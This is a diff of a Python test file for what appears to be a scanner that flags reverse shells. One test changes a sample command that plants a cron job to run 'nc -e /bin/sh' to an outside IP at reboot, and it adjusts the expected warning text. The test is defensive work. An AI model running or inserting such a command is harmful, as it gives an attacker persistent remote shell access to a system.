@@ -73,5 +73,5 @@ def test_a_descriptor_to_the_network_can_be_read(command: str) -> None:
 
 
 def test_the_message_names_what_is_left_for_cron() -> None:
-    found = one("shell-reverse-shell", shell("echo '@reboot nc -e /bin/sh 203.0.113.9 1' > /etc/cron.d/x"))
-    assert found.message == "cron will run `nc -e /bin/sh 203.0.113.9 1`, which hands a shell to the network"
+    found = one("shell-reverse-shell", shell("echo '@reboot root nc -e /bin/sh 203.0.113.9 1' > /etc/cron.d/x"))
+    assert found.message == "`nc -e /bin/sh 203.0.113.9 1` hands a shell to the network"
